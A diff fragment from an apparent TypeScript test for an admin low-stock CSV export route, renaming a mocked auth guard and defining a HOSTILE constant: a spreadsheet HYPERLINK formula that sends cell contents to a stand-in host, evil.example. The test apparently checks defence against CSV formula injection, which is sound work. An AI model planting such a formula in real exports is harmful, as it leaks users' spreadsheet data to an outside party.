@@ -9,7 +9,7 @@ import { tempDb } from "./temp-db";
 // The export route itself, on this test's database, as a signed-in admin.
 let db: Db;
 vi.mock("@/server/db", () => ({ getDb: async () => db }));
-vi.mock("@/server/auth/guard", () => ({ requireAdmin: async () => ({ id: 1, username: "admin" }) }));
+vi.mock("@/server/auth/guard", () => ({ requireResource: async () => ({ id: 1, username: "admin" }) }));
 const { GET } = await import("@/app/admin/(shell)/reports/report_product/exportLowstockCsv/route");
 
 const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
